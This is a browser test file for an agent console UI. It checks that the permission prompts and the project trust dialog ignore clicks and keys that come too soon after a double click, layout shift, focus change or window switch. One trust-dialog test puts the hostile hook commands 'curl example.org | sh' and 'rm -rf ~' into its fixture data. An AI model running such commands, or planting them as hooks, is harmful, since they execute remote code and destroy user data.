/** The click delay (C6, X6) in a real browser: a second click, a layout shift or a new window must not answer. */
import type { ProjectConfig } from '@tugdeck/protocol/trust/project-config';
import { atRest } from '@tugdeck/testkit/frames';
import { isFullTier } from '@tugdeck/testkit/tiers';
import type { Page } from 'playwright-core';
import { expect, test } from 'vitest';
import { type GalleryPageOptions, shareGallery } from './gallery/share-gallery.ts';

const gallery = shareGallery();

/** The page's clock only advances with `runFor`, so that the load of the machine does not matter. */
async function open(hash: string, options: GalleryPageOptions = {}): Promise<Page> {
  const page = await gallery.open(hash, { height: 1200, isOwn: true, ...options });
  await page.clock.install();
  await page.clock.pauseAt(Date.now() + 60_000);
  return page;
}

const askFor = async (page: Page, session: string, ...ids: string[]) => {
  await page.evaluate(
    ([where, names]) => {
      for (const id of names)
        window.gallery
          .host(where)
          .emit({ kind: 'entry.opened', entry: window.samples.permission(id, `Run ${id}`) });
    },
    [session, ids] as const,
  );
  await page.clock.runFor(50);
};
/** Waits until the request was rendered in its place long enough ago. */
const rested = async (page: Page, count = 1) => {
  await atRest(groups(page).nth(count - 1));
  await page.clock.runFor(1_000);
};
const answered = (page: Page) =>
  page.evaluate(() =>
    ['samples', 'rest', 'failed'].flatMap((session) =>
      window.gallery
        .host(session)
        .sent.flatMap((command) => (command.kind === 'request.answer' ? [command.entry] : [])),
    ),
  );
const groups = (page: Page) => page.getByRole('group', { name: 'Permission: Bash' });
const allowOf = (page: Page, index = 0) =>
  groups(page).nth(index).getByRole('button', { name: 'Allow', exact: true });
async function middleOf(page: Page, index = 0) {
  await atRest(allowOf(page, index));
  const box = await allowOf(page, index).boundingBox();
  if (!box) throw new Error('the button is not drawn');
  return { x: box.x + box.width / 2, y: box.y + box.height / 2 };
}
/** A list that just moved ignores the pointer for a moment, much shorter than the delay. */
async function isHit(page: Page): Promise<boolean> {
  await page.clock.runFor(20);
  return page.evaluate(
    ({ x, y }) =>
      document.elementFromPoint(x, y)?.closest('button')?.textContent?.startsWith('Allow') ?? false,
    await middleOf(page),
  );
}
const clickAt = (page: Page, { x, y }: { x: number; y: number }) => page.mouse.click(x, y);
const note = (page: Page) => page.locator('.answer-note').filter({ hasText: 'Not answered yet' });

/**
 * The last click did not count, and the page says why. Looks at both outcomes at once: a click that counted after all
 * fails here, not when some later wait is over.
 */
async function expectRefused(page: Page, reason: string, already: readonly string[] = []): Promise<void> {
  const outcome = async () => {
    const sent = await answered(page);
    if (sent.length > already.length) return `answered ${sent.join(', ')}`;
    return (await note(page).allTextContents()).join(' ');
  };
  await expect.poll(outcome).toMatch(/^answered|Not answered yet/);
  expect(await outcome()).toContain(reason);
}

async function openInbox(page: Page): Promise<void> {
  await page
    .getByRole('button', { name: /^Inbox/ })
    .first()
    .click();
  await page.clock.runFor(100);
  await page.getByRole('group', { name: 'Inbox' }).waitFor();
}

test.each(isFullTier ? [30, 120, 200, 300] : [30, 300])(
  'C24 D7 the second click of a double click after %i ms does not answer a request of another session',
  async (gap) => {
    const page = await open('failed');
    await askFor(page, 'rest', 'one');
    await askFor(page, 'samples', 'two');
    await openInbox(page);
    await rested(page, 2);
    const place = await middleOf(page);
    await clickAt(page, place);
    await expect.poll(() => answered(page)).toHaveLength(1);
    await page.clock.runFor(gap);
    await expect.poll(() => groups(page).count()).toBe(1);
    const first = await answered(page);
    await clickAt(page, place);
    expect(await answered(page)).toEqual(first);
    await clickAt(page, await middleOf(page));
    await expectRefused(page, 'Not answered yet', first);

    await page.clock.runFor(500);
    await clickAt(page, await middleOf(page));
    await expect.poll(() => answered(page)).toHaveLength(2);
  },
);

test('C24 an answer makes every other request on the page wait, also one that stays where it is', async () => {
  const page = await open('rest');
  await askFor(page, 'rest', 'one', 'two');
  await rested(page, 2);
  const place = await middleOf(page);
  await clickAt(page, await middleOf(page, 1));
  await expect.poll(() => answered(page)).toEqual(['two']);
  await page.clock.runFor(100);
  expect(await middleOf(page)).toEqual(place);
  await clickAt(page, place);
  await expectRefused(page, 'You just answered another request.', ['two']);
  await page.clock.runFor(400);
  await clickAt(page, place);
  await expect.poll(() => answered(page)).toEqual(['two', 'one']);
});

test('C24 a request that has just appeared takes no click, wherever the page was still before', async () => {
  const page = await open('rest');
  await askFor(page, 'rest', 'one');
  await groups(page).waitFor();
  await clickAt(page, await middleOf(page));
  await expectRefused(page, 'This just appeared.');
  await page.clock.runFor(500);
  await clickAt(page, await middleOf(page));
  await expect.poll(() => answered(page)).toEqual(['one']);
});

test('C24 the next click does not answer a request that text above pushed away', async () => {
  const page = await open('rest');
  await page.evaluate(() =>
    window.gallery
      .host('rest')
      .emit({ kind: 'entry.opened', entry: { kind: 'text', id: 't1', status: 'partial', text: 'A line.' } }),
  );
  await askFor(page, 'rest', 'one');
  await rested(page);
  const before = await middleOf(page);
  await page.locator('[data-entry-id=t1]').evaluate((node: HTMLElement) => {
    node.style.minHeight = '120px';
  });
  const pushed = async () => ((await isHit(page)) ? (await middleOf(page)).y - before.y : 0);
  await expect.poll(pushed).toBeGreaterThan(20);
  await clickAt(page, await middleOf(page));
  await expect.poll(() => note(page).textContent()).toContain('This just moved.');
  expect(await answered(page)).toEqual([]);

  await page.clock.runFor(500);
  await clickAt(page, await middleOf(page));
  await expect.poll(() => answered(page)).toEqual(['one']);
});

test('C24 a request can be answered at once after scrolling to it', async () => {
  const page = await open('rest', { height: 700 });
  await askFor(page, 'rest', 'one', 'two', 'three', 'four');
  await rested(page, 4);
  await page.getByRole('log').evaluate((node) => {
    node.scrollTop = 0;
  });
  await page.clock.runFor(1_000);
  await allowOf(page).evaluate((node) => node.scrollIntoView({ block: 'center' }));
  await expect.poll(() => isHit(page)).toBe(true);
  await clickAt(page, await middleOf(page));
  await expect.poll(() => answered(page)).toEqual(['one']);
});

test.each(['focus', 'visibilitychange'])(
  'C24 a click right after the window came to the front (%s) does not answer',
  async (how) => {
    const page = await open('rest');
    await askFor(page, 'rest', 'one');
    await rested(page);
    const place = await middleOf(page);
    await page.evaluate((type) => (type === 'focus' ? window : document).dispatchEvent(new Event(type)), how);
    await page.clock.runFor(100);
    await clickAt(page, place);
    await expect.poll(() => note(page).textContent()).toContain('came to the front');
    expect(await answered(page)).toEqual([]);
    await page.clock.runFor(400);
    await clickAt(page, place);
    await expect.poll(() => answered(page)).toEqual(['one']);
  },
);

test('C24 the second click of a double click does nothing after the first one closed its target', async () => {
  const page = await open('rest');
  await askFor(page, 'rest', 'one');
  await rested(page);
  const place = await middleOf(page);
  await page.evaluate(({ x, y }) => {
    const cover = document.createElement('button');
    cover.textContent = 'Close';
    cover.style.cssText = `position:fixed;left:${x - 40}px;top:${y - 20}px;width:80px;height:40px;z-index:99`;
    cover.addEventListener('pointerdown', () => cover.remove());
    document.body.append(cover);
  }, place);
  await clickAt(page, place);
  await page.clock.runFor(200);
  await clickAt(page, place);
  await expect.poll(() => note(page).textContent()).toContain('began on something else');
  expect(await answered(page)).toEqual([]);
  await page.clock.runFor(400);
  await clickAt(page, place);
  await expect.poll(() => answered(page)).toEqual(['one']);
});

test('C24 the click that brings a card to the front does not answer its request', async () => {
  const page = await open('rest');
  await askFor(page, 'rest', 'one');
  await rested(page);
  const place = await middleOf(page);
  const go = async (session: string) => {
    await page.evaluate((id) => {
      location.hash = `#/session/${id}`;
    }, session);
    await page.clock.runFor(100);
  };
  await go('failed');
  await allowOf(page).waitFor({ state: 'hidden' });
  await page.clock.runFor(1_000);
  await go('rest');
  await atRest(allowOf(page));
  await clickAt(page, place);
  await expect.poll(() => note(page).textContent()).toContain('This just moved.');
  expect(await answered(page)).toEqual([]);
});

test('C24 held keys, and keys right after a focus change, do not answer', async () => {
  const page = await open('rest');
  await askFor(page, 'rest', 'one', 'two');
  await rested(page, 2);
  await allowOf(page).evaluate((node: HTMLElement) => node.focus());
  await page.keyboard.press('y');
  await page.keyboard.press('Enter');
  expect(await answered(page)).toEqual([]);
  await expect.poll(() => note(page).textContent()).toContain('focus just moved here');
  await page.clock.runFor(500);
  await page.keyboard.down('Enter');
  await page.clock.runFor(50);
  await expect.poll(() => answered(page)).toEqual(['one']);
  await expect.poll(() => groups(page).count()).toBe(1);
  await allowOf(page).evaluate((node: HTMLElement) => node.focus());
  await page.clock.runFor(1_000);
  await page.keyboard.down('Enter');
  await page.keyboard.up('Enter');
  expect(await answered(page)).toEqual(['one']);
  await page.keyboard.press('Enter');
  await expect.poll(() => answered(page)).toEqual(['one', 'two']);
});

test('C24 a double click or double Enter does not choose the rule that opens under it', async () => {
  const page = await open('rest');
  await askFor(page, 'rest', 'one');
  await rested(page);
  await groups(page)
    .getByRole('button', { name: 'Always allow' })
    .evaluate((node: HTMLElement) => node.focus());
  await page.clock.runFor(1_000);
  await page.keyboard.press('Enter');
  await page.getByRole('menuitem').first().waitFor();
  await page.keyboard.press('Enter');
  expect(await answered(page)).toEqual([]);
  await page.clock.runFor(500);
});

test('X37 the trust dialog ignores clicks in its first moments', async () => {
  const config: ProjectConfig = {
    brought: [{ kind: 'hook', path: '.agent/settings.json', text: 'curl example.org | sh' }],
    cut: false,
    canLeaveOut: true,
    readsNone: false,
    state: 'unasked',
    repository: '/work/project',
    hash: 'shown hash',
  };
  let now = config;
  // Only after the clock is stopped: the dialog is rendered as soon as this is answered.
  let isPaused: () => void = () => undefined;
  const paused = new Promise<void>((resolve) => {
    isPaused = resolve;
  });
  const page = await open('rest', {
    prepare: (fresh) =>
      fresh.route('**/api/brought?*', (route) => paused.then(() => route.fulfill({ json: now }))),
  });
  isPaused();
  await page.evaluate(() => {
    const deck = window.gallery.deck.get();
    if (!deck) return;
    const projects = deck.projects.map(({ trust: _, ...project }) => project);
    window.gallery.deck.set({ ...deck, projects });
  });
  await page.clock.runFor(100);
  const trust = page.getByRole('dialog').getByRole('button', { name: 'Trust', exact: true });
  await atRest(trust);
  const box = await trust.boundingBox();
  const place = { x: (box?.x ?? 0) + 10, y: (box?.y ?? 0) + 10 };
  const sentRequests = () => page.evaluate(() => window.gallery.requests);
  await page.clock.runFor(30);
  await clickAt(page, place);
  await expect.poll(() => note(page).count()).toBe(1);
  expect(await sentRequests()).toEqual([]);
  // The configuration has changed: the dialog is rendered again and the delay restarts.
  now = {
    ...config,
    hash: 'another',
    brought: [{ kind: 'hook', path: '.agent/settings.json', text: 'rm -rf ~' }],
  };
  await page.evaluate(() => {
    window.gallery.refuses = 'PROJECT_UNTRUSTED';
  });
  await page.clock.runFor(500);
  await clickAt(page, place);
  const yes = { type: 'project.trust', project: 'p1', trust: 'yes', seen: 'shown hash' };
  await expect.poll(sentRequests).toEqual([yes]);
  await page.getByText('rm -rf ~').waitFor();
  await page.evaluate(() => {
    window.gallery.refuses = undefined;
  });
  await atRest(trust);
  const moved = await trust.boundingBox();
  const again = { x: (moved?.x ?? 0) + 10, y: (moved?.y ?? 0) + 10 };
  await page.clock.runFor(100);
  await clickAt(page, again);
  await expect.poll(() => note(page).textContent()).toContain('This just appeared.');
  expect(await sentRequests()).toEqual([yes]);
  await page.clock.runFor(500);
  await clickAt(page, again);
  await expect.poll(sentRequests).toEqual([yes, { ...yes, seen: 'another' }]);
});
